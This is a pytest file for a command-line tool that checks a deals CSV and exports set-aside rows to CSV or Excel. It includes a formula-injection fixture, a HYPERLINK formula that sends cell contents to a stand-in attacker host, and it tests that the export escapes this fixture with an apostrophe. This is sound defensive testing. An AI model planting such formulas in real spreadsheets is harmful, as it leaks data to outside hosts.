"""What was set aside, as a file for spreadsheet programs."""

from __future__ import annotations

import pandas as pd
import pytest
from typer.testing import CliRunner

from enablement.run import listing
from enablement.run.cli import app

LINK = '=HYPERLINK("http://evil.example/?"&A1,"see")'
SETTINGS = """
stages = ["Lead"]
[outcomes]
Won = "won"
[files]
opportunities = "deals.csv"
"""


def checked(folder, name: str):
    """Check an export of five rows: one unreadable amount, one without a stage, one id twice."""
    (folder / "settings.toml").write_text(SETTINGS)
    quoted = LINK.replace('"', '""')
    (folder / "deals.csv").write_text(
        "opportunity_id,stage,amount,name\n"
        f'1,Lead,"{quoted}",A\n2,,5,B\n"{quoted}",Won,6,C\n"{quoted}",Won,7,D\n5,Won,8,E\n'
    )
    arguments = ["check", str(folder), "--out", str(folder / name)]
    return CliRunner(env={"COLUMNS": "200"}).invoke(app, arguments)


@pytest.mark.parametrize("name", ["rows.csv", "rows.xlsx"])
def test_every_row_and_value_is_listed_and_a_formula_is_text(tmp_path, name):
    """Lines 2, 3 and 5, each with its reason; what would be run has an apostrophe before it."""
    done = checked(tmp_path, name)
    assert done.exit_code == 0, done.output
    assert f"{name} (3 rows)." in done.output
    path = tmp_path / name
    table = pd.read_csv(path) if name.endswith("csv") else pd.read_excel(path, engine="calamine")
    assert table[["done", "file", "line", "column"]].to_numpy().tolist() == [
        ["read as missing", "deals.csv", 2, "amount"],
        ["set aside", "deals.csv", 3, "stage"],
        ["set aside", "deals.csv", 5, "opportunity_id"],
    ]
    assert table["value"].fillna("").tolist() == [f"'{LINK}", "", f"'{LINK}"]
    assert table["reason"].str.contains("unreadable|missing|twice").all()


def test_a_workbook_has_a_sheet_for_all_that_was_found(tmp_path):
    """Rows, what arrived, what was changed, what cannot be so, and the files."""
    checked(tmp_path, "rows.xlsx")
    sheets = pd.read_excel(tmp_path / "rows.xlsx", sheet_name=None, engine="calamine")
    assert list(sheets) == ["Rows", "Arrived", "Changed", "Impossible", "Files"]
    arrived = sheets["Arrived"][["rows_in", "used", "set_aside"]]
    assert arrived.to_numpy().tolist() == [[5, 3, 2]]


def test_another_ending_is_refused_in_one_line(tmp_path):
    """Nothing is written."""
    done = checked(tmp_path, "rows.pdf")
    assert done.exit_code == 2
    assert "rows.pdf ends in none of .xlsx, .csv." in done.output
    assert not (tmp_path / "rows.pdf").exists()


def test_rows_that_do_not_fit_into_a_sheet_are_not_cut_off(tmp_path, monkeypatch):
    """The message says what to write instead."""
    monkeypatch.setattr(listing, "MOST_ROWS", 2)
    done = checked(tmp_path, "rows.xlsx")
    assert done.exit_code == 2
    assert "3 rows do not fit into a sheet. Write rows.csv instead." in done.output
